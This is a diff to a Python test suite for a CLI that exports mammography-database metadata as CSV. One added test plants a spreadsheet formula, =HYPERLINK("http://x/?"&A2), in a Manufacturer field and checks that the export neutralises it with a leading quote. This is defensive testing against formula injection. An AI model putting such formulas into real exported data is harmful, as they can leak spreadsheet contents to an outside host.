@@ -574,11 +574,11 @@ def test_the_summary_of_all_is_that_of_omidb(
     assert Counter(ours[1:]) == Counter(theirs[1:])
     assert len(ours) > 50
     assert (result.exit_code, result.stdout) == (0, "")
-    assert result.stderr == f"ours.csv: {len(ours) - 1} rows\n"
+    assert result.stderr.startswith(f"ours.csv: {len(ours) - 1} rows\n")
 
 
 def exported(run: Run, *arguments: object) -> list[dict[str, str]]:
-    text = said(run("export", *arguments, "--format", "omidb-summary"))
+    text = said(run("export", "--verify-first", *arguments, "--format", "omidb-summary"))
     return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
@@ -591,6 +591,14 @@ def test_the_summary_of_a_cohort_has_its_images_only(run: Run, demo_database: Pa
     listed = said(run("ls", demo_database, "by-view/MLO/by-laterality/L/by-file-type/json")).splitlines()
     assert images <= {name.removesuffix(".json") for name in listed}
     assert images
+
+
+def test_a_text_that_a_spreadsheet_would_calculate_is_a_text_in_the_summary(run: Run, tmp_path: Path) -> None:
+    client = Tree(tmp_path / "db").client("demd1", site="@x").episode("1")
+    client.study("1.1", "1").image("1", Manufacturer='=HYPERLINK("http://x/?"&A2)', ViewPosition="MLO")
+    (row,) = [row for row in exported(run, "db") if row["SOPInstanceUID"] == "1"]
+    assert (row["Site"], row["Manufacturer"]) == ("'@x", '\'=HYPERLINK("http://x/?"&A2)')
+    assert row["ViewPosition"] == "MLO"
 
 
 def test_a_summary_of_nothing_is_a_header(run: Run, demo_database: Path) -> None:
